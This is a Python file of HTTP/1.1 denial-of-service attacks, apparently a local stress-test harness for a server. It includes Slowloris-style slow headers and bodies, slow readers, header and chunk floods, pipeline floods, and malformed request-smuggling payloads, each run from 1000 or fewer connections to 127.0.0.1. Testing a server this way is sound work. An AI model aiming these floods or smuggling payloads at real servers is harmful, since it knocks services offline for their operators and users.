"""Attacks over HTTP/1.1, each a coroutine that goes on until it is cancelled. Called by attack."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Awaitable, Callable

CLIENTS = 1000
GET = b"GET / HTTP/1.1\r\nHost: attack\r\n\r\n"
CHUNKED = b"POST / HTTP/1.1\r\nHost: attack\r\nTransfer-Encoding: chunked\r\n\r\n"
# Of each sort that is refused: by the framing, by hyper, by what stands behind it.
MALFORMED = [
    b"GET / HTTP/1.1\nHost: attack\n\n",
    b"POST / HTTP/1.1\r\nHost: attack\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + GET,
    b"POST / HTTP/1.1\r\nHost: attack\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    b"GET / HTTP/1.1\r\nHost : attack\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    CHUNKED + b"2\nab\r\n0\r\n\r\n",
    CHUNKED + b"fffffffffffffffff\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
]

Act = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def connected(port: int, act: Act, small: bool = False) -> None:
    """Has one client after the other act, until it is cancelled. `small`: with as little room for responses as there can be."""
    while True:
        raw = socket.socket()
        raw.setblocking(False)
        if small:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        writer = None
        try:
            await asyncio.get_running_loop().sock_connect(raw, ("127.0.0.1", port))
            # A small limit has asyncio stop reading when nobody reads.
            reader, writer = await asyncio.open_connection(sock=raw, limit=16)
            await act(reader, writer)
        except (OSError, EOFError):
            await asyncio.sleep(0.01)
        finally:
            if writer is not None:
                writer.transport.abort()
            else:
                raw.close()


async def many(port: int, act: Act, clients: int = CLIENTS, small: bool = False) -> None:
    await asyncio.gather(*(connected(port, act, small) for _ in range(clients)))


async def until_closed(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


async def silent(port: int) -> None:
    """Connections that send nothing."""
    await many(port, lambda reader, writer: until_closed(reader))


async def trickle(port: int, first: bytes, piece: bytes) -> None:
    """Connections that send `first` at once, then a piece a second."""

    async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(first)
        while not reader.at_eof():
            await asyncio.sleep(1)
            writer.write(piece)
            await writer.drain()

    await many(port, act)


async def slow_heads(port: int) -> None:
    """Slowloris: a header line a second on each of 1000 connections."""
    await trickle(port, b"GET / HTTP/1.1\r\nHost: attack\r\n", b"X-a: b\r\n")


async def big_slow_heads(port: int) -> None:
    """The same, with most of a head of 60 kB sent at once."""
    await trickle(port, b"GET / HTTP/1.1\r\nHost: attack\r\nX: " + b"x" * 60_000, b"x")


async def slow_bodies(port: int) -> None:
    """Bodies of which all but the end has come as fast as it can."""
    head = b"POST / HTTP/1.1\r\nHost: attack\r\nContent-Length: 300000\r\n\r\n"
    await trickle(port, head + b"x" * 255_000, b"x")


def slow_readers(target: bytes) -> Callable[[int], Awaitable[None]]:
    async def run(port: int) -> None:
        async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.write(b"GET " + target + b" HTTP/1.1\r\nHost: attack\r\n\r\n")
            while await reader.read(1):
                await asyncio.sleep(1)

        await many(port, act, small=True)

    run.__doc__ = f"A byte a second of {target.decode()}."
    return run


async def malformed(port: int) -> None:
    """Requests that must be refused, each on a connection of its own."""
    number = 0

    async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal number
        number += 1
        writer.write(MALFORMED[number % len(MALFORMED)])
        await until_closed(reader)

    await many(port, act, 64)


async def extensions(port: int) -> None:
    """Chunks of a byte with extensions and trailers as long as they may be, and beyond."""
    chunk = b"1;" + b"x" * 1000 + b"\r\na\r\n"
    most = CHUNKED + chunk * 15 + b"0\r\nX: " + b"x" * 8000 + b"\r\n\r\n"
    await asyncio.gather(many(port, again(most), 32), many(port, again(CHUNKED + b"1;" + b"x" * 1_000_000), 32))


async def chunks(port: int) -> None:
    """Bodies of 10 000 chunks of a byte."""
    await many(port, again(CHUNKED + b"1\r\na\r\n" * 10_000 + b"0\r\n\r\n"), 64)


async def heads(port: int) -> None:
    """Heads of more headers and bytes than there may be."""
    await many(port, again(b"GET / HTTP/1.1\r\nHost: attack\r\n" + b"".join(
        b"X-%d: %s\r\n" % (number, b"x" * 590) for number in range(200)) + b"\r\n"), 64)


async def pipelines(port: int) -> None:
    """Requests without end, and nobody who reads the responses."""

    async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while not reader.at_eof():
            writer.write(GET * 1000)
            await writer.drain()

    await many(port, act, 64, small=True)


async def churn(port: int) -> None:
    """Connections that are opened and closed."""

    async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        pass

    await many(port, act, 64)


async def leavers(port: int) -> None:
    """Requests whose client does not wait."""

    async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(GET)
        await asyncio.sleep(0)

    await many(port, act, 64)


def again(request: bytes) -> Act:
    """Sends it again and again on one connection, and reads what comes."""

    async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        swallow = asyncio.create_task(until_closed(reader))
        try:
            while not swallow.done():
                writer.write(request)
                await writer.drain()
        finally:
            swallow.cancel()

    return act


ATTACKS: dict[str, Callable[[int], Awaitable[None]]] = {
    "silent": silent,
    "slow-heads": slow_heads,
    "big-slow-heads": big_slow_heads,
    "slow-bodies": slow_bodies,
    "slow-readers-file": slow_readers(b"/big.bin"),
    "slow-readers-script": slow_readers(b"/big"),
    "malformed": malformed,
    "chunk-extensions": extensions,
    "chunk-flood": chunks,
    "header-flood": heads,
    "pipelines": pipelines,
    "churn": churn,
    "leavers": leavers,
}
